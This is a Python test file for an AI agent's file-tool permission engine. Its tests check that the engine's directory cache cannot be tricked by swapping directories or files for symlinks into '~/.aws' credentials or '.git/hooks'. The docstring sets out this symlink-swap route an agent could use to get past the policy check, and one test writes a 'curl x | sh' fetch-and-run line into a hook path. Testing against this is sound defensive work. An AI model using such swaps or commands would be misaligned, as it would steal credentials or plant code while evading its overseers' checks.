"""Red team: the short path for file tools cannot be steered by swapping directories.

Threat: the engine proves plain `Read`/`Edit`/`Write` calls allowed on a short path that trusts
a cache of directories it has already seen (`paths._DirCache`). An agent lets that cache fill
with an innocent directory, then, with a shell command the engine allows, replaces that
directory, or one above it, by a symlink into `~/.aws` or the repository's `.git/hooks`, and
asks for the same innocent-looking path again.

Invariant: a cached directory counts only while the kernel's own view of it (the held
descriptor's current path) is exactly the path asked about. After any swap the short path
declines, and the whole pipeline resolves the link and refuses.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

from crustcore_nano.policy.engine import PolicyEngine
from crustcore_nano.policy.types import ToolCall, Verdict


def _short_path_allows(engine: PolicyEngine, call: ToolCall) -> bool:
    short = engine._fast  # pyright: ignore[reportPrivateUsage]
    assert short is not None
    return short.allow(call) is not None


def _world(
    tmp_path: Path, policy_engine: Callable[[Path, Path], PolicyEngine], *dirs: str
) -> tuple[PolicyEngine, Path, Path]:
    """An engine, a home whose `~/.aws` holds credentials (every file there is one, `notes.txt`
    too), and a workspace holding `dirs`."""
    home, ws = tmp_path / "home", tmp_path / "ws"
    engine = policy_engine(home, ws)
    (home / ".aws").mkdir(parents=True)
    for name in ("credentials", "notes.txt"):
        (home / ".aws" / name).write_text("[default]\n", encoding="utf-8")
    for directory in dirs:
        (ws / directory).mkdir(parents=True)
    return engine, home, ws


def _allowed_on_the_short_path(engine: PolicyEngine, call: ToolCall) -> None:
    assert engine.evaluate(call).verdict is Verdict.ALLOW  # an ordinary project file
    assert _short_path_allows(engine, call)  # its directory is cached now


def _refused_the_whole_way(engine: PolicyEngine, call: ToolCall, *, asked_ok: bool = False) -> None:
    assert not _short_path_allows(engine, call)
    decision = engine.evaluate(call)
    allowed = (Verdict.DENY, Verdict.ASK) if asked_ok else (Verdict.DENY,)
    assert decision.verdict in allowed, decision


def test_parent_directory_swapped_for_a_link_into_home(
    tmp_path: Path, policy_engine: Callable[[Path, Path], PolicyEngine]
) -> None:
    engine, home, ws = _world(tmp_path, policy_engine, "deploy/aws")
    call = ToolCall("Read", {"file_path": "deploy/aws/notes.txt"})
    _allowed_on_the_short_path(engine, call)

    os.rename(ws / "deploy" / "aws", ws / "deploy" / "aws.old")
    os.symlink(home / ".aws", ws / "deploy" / "aws")

    _refused_the_whole_way(engine, call)


def test_grandparent_swapped_for_a_link_to_a_tree_of_links(
    tmp_path: Path, policy_engine: Callable[[Path, Path], PolicyEngine]
) -> None:
    engine, home, ws = _world(tmp_path, policy_engine, "deploy/aws")
    call = ToolCall("Read", {"file_path": f"{ws}/deploy/aws/notes.txt"})
    _allowed_on_the_short_path(engine, call)

    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    os.symlink(home / ".aws", elsewhere / "aws")
    os.rename(ws / "deploy", ws / "deploy.old")
    os.symlink(elsewhere, ws / "deploy")

    _refused_the_whole_way(engine, call)


def test_directory_swapped_for_the_repositorys_hooks(
    tmp_path: Path, policy_engine: Callable[[Path, Path], PolicyEngine]
) -> None:
    engine, _, ws = _world(tmp_path, policy_engine, ".git/hooks", "tools")
    call = ToolCall("Write", {"file_path": "tools/pre-commit", "content": "curl x | sh\n"})
    _allowed_on_the_short_path(engine, call)

    os.rename(ws / "tools", ws / "tools.old")
    os.symlink(ws / ".git" / "hooks", ws / "tools")

    _refused_the_whole_way(engine, call, asked_ok=True)


def test_file_swapped_for_a_link_in_a_cached_directory(
    tmp_path: Path, policy_engine: Callable[[Path, Path], PolicyEngine]
) -> None:
    engine, home, ws = _world(tmp_path, policy_engine, "src")
    (ws / "src" / "notes.txt").write_text("notes\n", encoding="utf-8")
    call = ToolCall("Read", {"file_path": "src/notes.txt"})
    _allowed_on_the_short_path(engine, call)

    (ws / "src" / "notes.txt").unlink()
    os.symlink(home / ".aws" / "credentials", ws / "src" / "notes.txt")

    _refused_the_whole_way(engine, call)


def test_missing_directory_made_a_link_into_home(
    tmp_path: Path, policy_engine: Callable[[Path, Path], PolicyEngine]
) -> None:
    """A path under directories that do not exist yet is proven plain from the nearest held
    directory above them; creating the first missing one as a link ends that proof."""
    engine, home, ws = _world(tmp_path, policy_engine, "deploy")
    call = ToolCall("Read", {"file_path": "deploy/aws/current/notes.txt"})
    _allowed_on_the_short_path(engine, call)

    os.symlink(home / ".aws", ws / "deploy" / "aws")
    (home / ".aws" / "current").mkdir()
    (home / ".aws" / "current" / "notes.txt").write_text("[default]\n", encoding="utf-8")

    _refused_the_whole_way(engine, call)


def test_missing_directory_whose_parent_is_swapped(
    tmp_path: Path, policy_engine: Callable[[Path, Path], PolicyEngine]
) -> None:
    """The held directory above the missing part is revalidated like any other: here the
    part is still missing after the swap, but it now lies under `~/.aws`."""
    engine, home, ws = _world(tmp_path, policy_engine, "deploy")
    call = ToolCall("Write", {"file_path": "deploy/new/config", "content": "[default]\n"})
    _allowed_on_the_short_path(engine, call)

    os.rename(ws / "deploy", ws / "deploy.old")
    os.symlink(home / ".aws", ws / "deploy")

    _refused_the_whole_way(engine, call)
